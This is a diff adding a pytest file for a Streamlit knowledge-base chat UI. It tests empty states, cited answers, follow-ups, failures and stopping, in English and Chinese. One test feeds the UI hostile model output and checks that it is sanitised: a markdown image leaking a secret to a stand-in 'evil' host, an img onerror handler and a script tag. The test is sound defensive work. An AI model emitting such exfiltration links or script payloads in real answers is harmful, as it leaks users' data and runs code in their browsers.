@@ -1,0 +1,173 @@
+"""The ask view, in both languages: empty, without a model, working, answered, stopped, failed."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Iterator
+from typing import TYPE_CHECKING
+
+import chat_server
+import pytest
+from chat_server import ChatService
+
+from ui.answering import RunningAnswer
+
+if TYPE_CHECKING:
+    from conftest import UserInterface
+    from streamlit.testing.v1 import AppTest
+
+WARRANTY = "The warranty on the coffee machine lasts 24 months from the day of purchase."
+TURNS = "_conversation"
+
+
+@pytest.fixture
+def service(monkeypatch: pytest.MonkeyPatch) -> Iterator[ChatService]:
+    started = ChatService(lambda _: "It lasts **24 months** [1][9].")
+    monkeypatch.setenv("KB_CHAT_MODEL", started.model)
+    yield started
+    started.stop()
+
+
+@pytest.fixture
+def asking(service: ChatService, request: pytest.FixtureRequest) -> UserInterface:
+    """The UI over one document, with a chat model."""
+    assert service
+    ui: UserInterface = request.getfixturevalue("ui")
+    ui.shared.base.add(WARRANTY, name="warranty.txt")
+    return ui
+
+
+def html(page: AppTest) -> str:
+    values = [element.value for element in page.html]  # type: ignore[attr-defined] # AppTest
+    return "\n".join(value for value in values if not value.startswith("<style"))
+
+
+def ask(page: AppTest, question: str) -> AppTest:
+    page.chat_input[0].set_value(question).run()
+    turn: RunningAnswer = page.session_state[TURNS][-1]
+    assert turn.wait(30)
+    page.run()
+    assert not page.exception
+    return page
+
+
+def choose_first(page: AppTest) -> None:
+    page.button_group(key="passage-0").select(1).run()
+
+
+@pytest.mark.parametrize(
+    ("locale", "title", "empty"),
+    [("en-US", "Ask", "Nothing to search yet"), ("zh-CN", "问答", "还没有可搜索的内容")],
+)
+def test_an_empty_store_says_what_to_do_first(
+    ui: UserInterface, locale: str, title: str, empty: str
+) -> None:
+    page = ui.open("ask", locale=locale)
+    assert page.title[0].value == title
+    assert empty in html(page)
+
+
+@pytest.mark.parametrize(
+    ("locale", "words"), [("en-US", "no chat model yet"), ("zh-CN", "尚未配置对话模型")]
+)
+def test_without_a_model_the_best_passages_are_shown_and_how_to_add_one(
+    ui: UserInterface, locale: str, words: str
+) -> None:
+    ui.shared.base.add(WARRANTY, name="warranty.txt")
+    page = ui.open("ask", locale=locale)
+    assert words in page.info[0].value
+    assert "chat_model" in page.code[0].value
+    page.text_input(key="question_only").set_value("How long is the warranty?").run()
+    assert "warranty.txt" in html(page)
+
+
+@pytest.mark.parametrize(
+    ("locale", "hint", "save"),
+    [
+        ("en-US", "Answers come from one document", "Save as Markdown"),
+        ("zh-CN", "回答取自 1 份文档", "存为 Markdown"),
+    ],
+)
+def test_an_answer_leads_to_the_passages_it_names(
+    asking: UserInterface, locale: str, hint: str, save: str
+) -> None:
+    page = asking.open("ask", locale=locale)
+    assert hint in page.caption[0].value
+    ask(page, "How long is the warranty?")
+    shown = html(page)
+    assert '<strong>24 months</strong> <span class="kb-cited">1</span>.' in shown
+    assert WARRANTY not in shown
+    choose_first(page)
+    assert "24 months" in html(page).split("kb-hit-head")[1]
+    assert any(button.label == save for button in page.get("download_button"))
+
+
+def test_what_a_model_writes_never_becomes_a_picture_a_link_or_markup(
+    asking: UserInterface, service: ChatService
+) -> None:
+    service.reply = lambda _: (
+        "![x](http://evil/?q=secret) [here](http://evil/) <http://evil/> <img src=x onerror=a()>"
+        "\n\n<script>alert(1)</script>\n\n[ref]: http://evil/\n\n[1]"
+    )
+    shown = html(ask(asking.open("ask"), "warranty?"))
+    answer = shown.split('<div class="kb-answer">')[1].split("</div>")[0]
+    assert "<img" not in answer
+    assert "<script" not in answer
+    assert "href" not in answer
+
+
+def test_a_follow_up_is_shown_as_it_was_asked(asking: UserInterface, service: ChatService) -> None:
+    replies = ["24 months [1].", "What does the warranty cover?", "Repairs [1]."]
+    service.reply = lambda _: replies.pop(0)
+    page = ask(asking.open("ask"), "How long is the warranty?")
+    ask(page, "And what does it cover?")
+    assert [m.value for m in page.markdown if "cover" in m.value]
+    assert any("What does the warranty cover" in caption.value for caption in page.caption)
+    assert html(page).count("kb-answer") == 2
+
+
+def test_an_answer_that_names_no_passage_says_so(
+    asking: UserInterface, service: ChatService
+) -> None:
+    service.reply = lambda _: "24 months."
+    page = ask(asking.open("ask"), "How long is the warranty?")
+    assert any("names no passage" in caption.value for caption in page.caption)
+    choose_first(page)
+    assert "warranty.txt" in html(page)
+
+
+def test_a_model_that_fails_is_an_error_with_what_was_written(
+    asking: UserInterface, service: ChatService
+) -> None:
+    service.faults.append(chat_server.break_off)
+    page = ask(asking.open("ask"), "How long is the warranty?")
+    assert "The answer broke off" in page.error[0].value
+    assert "Half an" in html(page)
+
+
+def test_an_answer_can_be_stopped_and_keeps_what_was_written(
+    asking: UserInterface, service: ChatService
+) -> None:
+    service.faults.append(chat_server.talk_on)
+    page = asking.open("ask")
+    page.chat_input[0].set_value("How long is the warranty?").run()
+    turn: RunningAnswer = page.session_state[TURNS][-1]
+    deadline = time.monotonic() + 30
+    while not turn.so_far.text:
+        assert time.monotonic() < deadline
+        time.sleep(0.02)
+    page.run()
+    page.button(key="stop-0").click().run()
+    assert turn.wait(30)
+    assert service.hung_up.wait(10)
+    page.run()
+    assert turn.state == "stopped"
+    assert "and on" in html(page)
+    assert any(caption.value == "Stopped." for caption in page.caption)
+
+
+def test_a_new_conversation_begins_empty(asking: UserInterface) -> None:
+    page = ask(asking.open("ask"), "How long is the warranty?")
+    next(button for button in page.button if button.label == "New conversation").click().run()
+    assert page.session_state[TURNS] == []
+    assert "kb-answer" not in html(page)
